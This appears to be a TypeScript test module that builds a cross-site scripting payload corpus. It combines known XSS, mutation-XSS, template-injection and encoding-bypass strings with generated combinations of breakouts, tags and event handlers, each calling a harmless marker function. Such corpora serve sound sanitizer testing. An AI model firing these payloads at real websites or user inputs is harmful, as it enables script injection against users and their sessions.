/** What a payload that runs would call. */
export const FLAG = "hit";

const CALL = `${FLAG}()`;
const KNOWN: readonly string[] = [
  `<script>${CALL}</script>`,
  `<ScRiPt src="data:text/javascript,${CALL}"></ScRiPt>`,
  `"><img src=x onerror=${CALL}>`,
  `javascript:${CALL}//--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${CALL}//'>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<form><button formaction="javascript:${CALL}" autofocus>x</button></form>`,
  `<base href="javascript:/a/-${CALL}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<style>@import 'javascript:${CALL}';*{x:expression(${CALL})}</style>`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `<?lit$1$?><img src=x onerror=${CALL}>`,
  `__proto__[innerHTML]=<img src=x onerror=${CALL}>`,
  `\u202e<img src=x onerror=${CALL}>`,
];

const BREAKOUTS = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "`>",
];
const TAGS = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "details open",
  "marquee",
];
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerover", "onanimationstart"];
const GAPS = [" ", "/", "\t", "\u000c"];
const CALLS = [CALL, `"${CALL}"`, `&#104;it()`, `top['h'+'it']()`];
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  encodeURIComponent,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
];

/** Known payloads and every combination of ways out of a context, elements, events and spellings; no two alike. */
export const payloads: readonly string[] = [
  ...new Set([
    ...KNOWN,
    ...BREAKOUTS.flatMap((out) =>
      TAGS.flatMap((tag) =>
        EVENTS.flatMap((event) =>
          GAPS.flatMap((gap, at) =>
            // Encoded, one gap is as good as another.
            (at === 0 ? ENCODINGS : ENCODINGS.slice(0, 1)).map((encode) =>
              encode(`${out}<${tag}${gap}${event}=${CALLS[at] ?? CALL}>`),
            ),
          ),
        ),
      ),
    ),
  ]),
];
